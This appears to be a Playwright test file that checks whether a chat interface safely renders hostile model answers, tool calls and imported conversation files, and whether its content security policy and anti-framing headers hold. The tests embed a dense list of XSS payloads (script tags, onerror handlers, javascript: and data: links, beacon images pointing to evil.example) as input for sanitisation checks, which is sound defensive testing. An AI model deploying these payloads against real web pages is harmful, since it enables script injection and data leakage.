"""What a model says never becomes markup, never loads anything, and never breaks the policy of the page."""

from __future__ import annotations

import json

from playwright.sync_api import Page, expect

from tests.server.page.conftest import ask, finished, opened
from tests.server.page.scripted import Script

ANSWER = """<script>window.broken = 1</script><img src=x onerror="window.broken = 2"><svg onload=alert(3)>
<iframe srcdoc="<script>parent.broken = 4</script>"></iframe> <style>body{display:none}</style>

<base href="https://evil.example/"> <meta http-equiv="refresh" content="0;url=https://evil.example/">
<form action="https://evil.example/"><button>send</button></form> <a href="javascript:window.broken=5">x</a>

[click](javascript:window.broken=6) [click](JaVaScRiPt:window.broken=7) [click](data:text/html,<script>window.broken=8</script>)
[click](java\tscript:window.broken=9) [click](vbscript:x) [click](&#106;avascript:window.broken=10) [ok](https://safe.example/)
![beacon](https://evil.example/pixel.png?secret=1) ![b](//evil.example/x.gif) [![nested](https://evil.example/n.png)](https://evil.example)
<javascript:window.broken=11> <https://evil.example/">&quot;onmouseover=alert(1)> `</code><script>window.broken=12</script>`

| <img src=x onerror=alert(1)> | [a](javascript:alert(2)) |
|---|---|
| <script>window.broken = 13</script> | ![t](https://evil.example/t.png) |

$\\text{</math><script>window.broken = 14</script>}$ and $\\href{javascript:window.broken=15}{x}$ and $<img src=x onerror=alert(1)>$

```"><script>window.broken = 16</script>
</code></pre><script>window.broken = 17</script>
```

\x1b[31mred\x1b[0m \x1b]8;;https://evil.example\x07link\x1b]8;;\x07 \x00 \u202egnp.exe\u202c and __proto__ and {{constructor}}

# <img src=x onerror=alert(1)>
> - 1. > # ``` <script>window.broken = 18</script>

```html
<script>window.broken = 19</script> this fence never ends"""
ALLOWED = {
    *(
        "ARTICLE",
        "H2",
        "H3",
        "H4",
        "H5",
        "H6",
        "DIV",
        "P",
        "SPAN",
        "A",
        "BR",
        "CODE",
        "PRE",
        "TABLE",
        "THEAD",
        "TBODY",
        "TR",
        "TH",
        "TD",
    ),
    *("UL", "OL", "LI", "BLOCKQUOTE", "STRONG", "EM", "DEL", "HR", "BUTTON", "DETAILS", "SUMMARY", "INPUT"),
    *("svg", "path", "math", "mrow", "mi", "mo", "mn", "mtext"),
}


def check(page: Page) -> None:
    """Nothing of it has become more than text and harmless elements."""
    assert page.evaluate("() => window.broken") is None
    found = page.evaluate("() => [...new Set([...document.querySelectorAll('#path, #path *')].map((each) => each.tagName))]")
    assert set(found) <= ALLOWED
    names = page.evaluate("() => [...document.querySelectorAll('#path *')].flatMap((each) => each.getAttributeNames())")
    assert not [name for name in names if name.startswith("on")]
    assert not {"src", "style", "srcset", "srcdoc", "action", "formaction"}.intersection(names)
    links = page.evaluate("() => [...document.querySelectorAll('#path a')].map((each) => [each.protocol, each.rel, each.target])")
    assert {protocol for protocol, _, _ in links} <= {"https:", "http:", "mailto:"}
    assert links and all("noopener" in rel and target == "_blank" for _, rel, target in links)


def test_an_answer(page: Page, script: Script):
    """`page` fails at its end if anything was asked of another host, or the policy was broken."""
    script.answers = [f"<think>{ANSWER}</think>\n\n{ANSWER}"]
    page.evaluate("() => document.addEventListener('securitypolicyviolation', (event) => console.error(event.violatedDirective))")
    ask(page, ANSWER)
    finished(page)
    page.locator(".reasoning > summary").click()
    check(page)
    text = page.locator(".message.assistant > .body > .text").inner_text()
    assert "<script>window.broken = 1</script>" in text and "this fence never ends" in text
    assert page.locator(".message.user .text").text_content() == ANSWER.replace("\x1b", "\u241b").replace("\x07", "\u2407").replace(
        "\x00", "\u2400"
    )
    page.reload()
    page.wait_for_selector("html[data-ready]")
    check(page)


def test_an_answer_in_pieces(page: Page, script: Script):
    script.answers, script.piece = [ANSWER], 1
    ask(page, "Go on.")
    finished(page)
    check(page)


def test_a_call_with_a_hostile_name_and_arguments(page: Page, script: Script):
    page.click("#show-settings")
    page.locator("summary", has_text="Tools").click()
    page.fill("#tools", '[{"type": "function", "function": {"name": "f", "parameters": {"type": "object"}}}]')
    page.get_by_role("button", name="Apply").click()
    given = '{"<img src=x onerror=alert(1)>": "</pre><script>window.broken=1</script>"}'
    script.answers = [f'<tool_call>\n{{"name": "f", "arguments": {given}}}\n</tool_call>']
    ask(page, "[x](https://a.example)")
    expect(page.locator(".call")).to_contain_text("<img src=x onerror=alert(1)>")
    assert page.evaluate("() => window.broken") is None and page.locator("#path img, #path script").count() == 0


def test_a_hostile_file(page: Page, script: Script):
    message = {
        "id": "1",
        "parent": None,
        "role": "assistant",
        "content": ANSWER,
        "model": "<img src=x>",
        "error": "<b>",
        "end": "error",
        "calls": [{"id": "1", "name": "<script>window.broken=1</script>", "arguments": "<img src=x>"}],
        "stats": {"rate": "<b>"},
    }
    conversation = {
        "title": "<img src=x onerror=alert(1)>",
        "named": True,
        "messages": [message],
        "chosen": {"__proto__": "x"},
        "model": "<b>",
        "system": "<script>",
        "sampling": {"temperature": "<b>"},
    }
    given = {"lacewing_page": 1, "conversations": [conversation]}
    page.set_input_files("#file", {"name": "<b>.json", "mimeType": "application/json", "buffer": json.dumps(given).encode()})
    expect(page.locator(".message.assistant")).to_have_count(1)
    check(page)
    assert page.locator("#conversations .title").inner_text() == "<img src=x onerror=alert(1)>"
    assert page.locator("img").count() == 1  # the page's own


def test_the_policy_holds_against_the_page_itself(page: Page, watched):
    """Whatever a script of the page does wrong, a text does not become markup, and nothing else is loaded."""
    watched.allowed |= {"TrustedHTML", "Content Security Policy", "evil.example"}  # Playwright tells of requests that are blocked
    failed = []
    page.on("requestfailed", lambda request: failed.append(request.failure))
    assert (
        page.evaluate("() => { try { document.body.innerHTML = '<b>x</b>'; return 'done'; } catch (error) { return error.name; } }")
        == "TypeError"
    )
    blocked = page.evaluate("""async () => {
      const blocked = [];
      document.addEventListener('securitypolicyviolation', (event) => blocked.push(event.effectiveDirective));
      const image = document.createElement('img');
      image.src = 'https://evil.example/x.png';
      document.body.append(image);
      await fetch('https://evil.example/').catch(() => {});
      const style = document.createElement('style');
      style.textContent = 'body { color: red }';
      document.head.append(style);
      await new Promise((resolve) => setTimeout(resolve, 100));
      return blocked;
    }""")
    assert {"img-src", "connect-src", "style-src-elem"} <= set(blocked)
    if not failed:  # it may come later than the page's own events
        page.wait_for_event("requestfailed")
    assert set(failed) == {"csp"}


def test_no_page_can_frame_it(page: Page, watched, url: str):
    watched.allowed |= {"frame-ancestors", "Refused to"}
    response = page.request.get(url, headers={"accept": "text/html"})
    assert "frame-ancestors 'none'" in response.headers["content-security-policy"] and response.headers["x-frame-options"] == "DENY"
    opened(page, url)
